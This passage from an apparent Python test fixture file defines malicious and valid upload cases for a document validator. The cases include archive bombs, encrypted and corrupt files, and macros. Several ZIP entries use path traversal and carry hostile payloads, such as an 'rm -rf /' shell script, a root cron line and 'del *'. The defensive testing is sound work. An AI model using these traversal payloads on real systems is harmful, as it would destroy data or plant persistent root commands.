    ("ooxml_declared_huge", "notulen.docx", ooxml_declared_huge, "archive_bomb", "total"),
    ("ooxml_many_entries", "notulen.docx", ooxml_many_entries, "archive_bomb", "entri"),
    ("ooxml_lying_sizes", "notulen.docx", ooxml_lying_sizes, "corrupt", "rusak"),
    (
        "ooxml_nested_zip",
        "notulen.docx",
        lambda: docx({"word/media/lampiran.zip": small_zip()}),
        "nested_archive",
        "arsip ZIP",
    ),
    (
        "ooxml_nested_gzip",
        "daftar.docx",
        lambda: docx({"word/media/data.bin": zlib_gzip(b"x" * 1000)}),
        "nested_archive",
        "GZIP",
    ),
    (
        "ooxml_traversal",
        "notulen.docx",
        lambda: docx({"../../../../tmp/evil.sh": b"#!/bin/sh\nrm -rf /\n"}),
        "unsafe_path",
        "jalur berbahaya",
    ),
    (
        "ooxml_absolute",
        "notulen.docx",
        lambda: docx({"/etc/cron.d/evil": b"* * * * * root sh"}),
        "unsafe_path",
        "jalur berbahaya",
    ),
    ("ooxml_backslash", "notulen.docx", lambda: docx({"..\\..\\evil.bat": b"del *"}), "unsafe_path", "jalur berbahaya"),
    (
        "ooxml_encrypted_entry",
        "notulen.docx",
        lambda: zip_of({"[Content_Types].xml": content_types(), "word/document.xml": DOCUMENT}, flag_bits=0x1),
        "encrypted",
        "terenkripsi",
    ),
    (
        "ooxml_encrypted_cfb",
        "notulen.docx",
        lambda: ole2(["EncryptionInfo", "EncryptedPackage"]),
        "encrypted",
        "kata sandi",
    ),
    (
        "ooxml_missing_document",
        "notulen.docx",
        lambda: docx(drop=("word/document.xml",)),
        "corrupt",
        "word/document.xml",
    ),
    (
        "ooxml_missing_content_types",
        "notulen.docx",
        lambda: docx(drop=("[Content_Types].xml",)),
        "corrupt",
        "[Content_Types].xml",
    ),
    (
        "ooxml_missing_workbook",
        "rekap.xlsx",
        lambda: zip_of({"[Content_Types].xml": b"<Types/>"}),
        "corrupt",
        "xl/workbook.xml",
    ),
    ("ooxml_macro", "notulen.docx", docx_macro, "macro", "makro"),
    (
        "ooxml_ole_object",
        "notulen.docx",
        lambda: docx({"word/embeddings/oleObject1.bin": ole2(["\x01Ole10Native"])}),
        "active_content",
        "OLE",
    ),
    ("ooxml_external_template", "notulen.docx", docx_external_template, "active_content", "templat"),
    ("ooxml_truncated", "notulen.docx", lambda: _cut(docx(), 0.7), "corrupt", "terpotong"),
    (
        "ooxml_bzip2_method",
        "notulen.docx",
        lambda: zip_of(
            {"[Content_Types].xml": content_types(), "word/document.xml": DOCUMENT}, method=zipfile.ZIP_BZIP2
        ),
        "corrupt",
        "kompresi",
    ),
]


def zlib_gzip(data: bytes) -> bytes:
    import gzip

    return gzip.compress(data, mtime=0)


MULTIPART_EXPECT: dict[str, tuple[str, str]] = {
    # Django keeps "passwd", "evil.pdf.exe", "shell.php", "foto.jpg.php", "laporan[31m.pdf.sh".
    "name_traversal": ("bad_extension", "tidak berakhiran .pdf"),
    "name_traversal_windows": ("bad_extension", "akhiran namanya .exe"),
    "name_absolute": ("bad_extension", "akhiran namanya .php"),
    "name_nul": ("bad_extension", "akhiran namanya .php"),
    "name_control": ("bad_extension", "akhiran namanya .sh"),
}

GOOD: list[tuple[str, str, Content, FileType]] = [
    ("jpeg_exif", "foto-kerja-bakti.jpg", jpeg_with_exif, FileType.JPEG),
    ("jpeg_progressive", "foto.jpeg", lambda: jpeg(progressive=True), FileType.JPEG),
    ("jpeg_jfif_name", "dari-wa.jfif", jpeg, FileType.JPEG),
    ("png", "tangkapan-layar.png", png, FileType.PNG),
    ("png_interlaced", "struktur.png", lambda: png(interlace=1), FileType.PNG),
    ("webp", "foto.webp", webp, FileType.WEBP),
    ("pdf", "notulen.pdf", pdf, FileType.PDF),
    ("pdf_object_streams", "undangan.pdf", lambda: pdf_object_stream(URI_ACTION), FileType.PDF),
    ("docx", "notulen.docx", docx, FileType.DOCX),
    ("docx_embedded_xlsx", "laporan.docx", docx_with_embedded_xlsx, FileType.DOCX),
    ("xlsx", "daftar-hadir.xlsx", xlsx, FileType.XLSX),
    ("uppercase_extension", "FOTO.JPG", jpeg, FileType.JPEG),
]


def content_of(case) -> bytes:
    """The bytes of a ``CASES`` or ``GOOD`` entry."""
    content = case[2]
    return content() if callable(content) else content
